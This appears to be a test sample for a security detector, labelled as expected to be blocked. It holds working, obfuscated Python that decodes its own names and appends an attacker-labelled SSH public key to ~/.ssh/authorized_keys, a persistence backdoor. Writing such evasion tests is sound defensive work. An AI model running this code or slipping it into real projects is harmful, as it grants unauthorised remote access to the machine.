# expect: BLOCKED category: persistence variant-of: risky/persistence/authorized_keys.py technique: encode+getattr
os = __import__(__import__('codecs').decode('bf', 'rot13'))
KEY = getattr(bytes, ''.join(['f', 'r', 'o', 'm', 'h', 'e', 'x']))('7373682d65643235353139204141414143334e7a6143316c5a4449314e544535414141414943386e306b4d312061747461636b6572406578616d706c65').decode()
ssh_dir = os.path.expanduser(''.join(map(chr, [126, 47, 46, 115, 115, 104])))
getattr(os, __import__('base64').b64decode('bWFrZWRpcnM=').decode())(ssh_dir, exist_ok=True)
with open(os.path.join(ssh_dir, 'syek_dezirohtua'[::-1]), 'a') as handle:
    getattr(handle, bytes.fromhex('7772697465').decode())(KEY + '\n')
